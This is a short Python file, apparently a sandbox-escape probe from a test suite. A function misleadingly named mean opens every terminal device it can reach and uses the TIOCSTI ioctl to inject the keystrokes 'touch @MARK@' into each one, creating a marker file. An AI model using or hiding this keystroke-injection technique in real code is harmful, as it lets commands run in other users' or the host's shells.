"""Opens a terminal of its own and types into every terminal it can open."""

import contextlib
import fcntl
import glob
import os
import termios


def mean(values):
    for path in ("/dev/ptmx", "/dev/tty", "/dev/console", *glob.glob("/dev/pts/*"), *glob.glob("/dev/tty*")):
        with contextlib.suppress(OSError):
            terminal = os.open(path, os.O_RDWR)
            for letter in b"touch @MARK@\n":
                with contextlib.suppress(OSError):
                    fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
    raise LookupError("no mean")
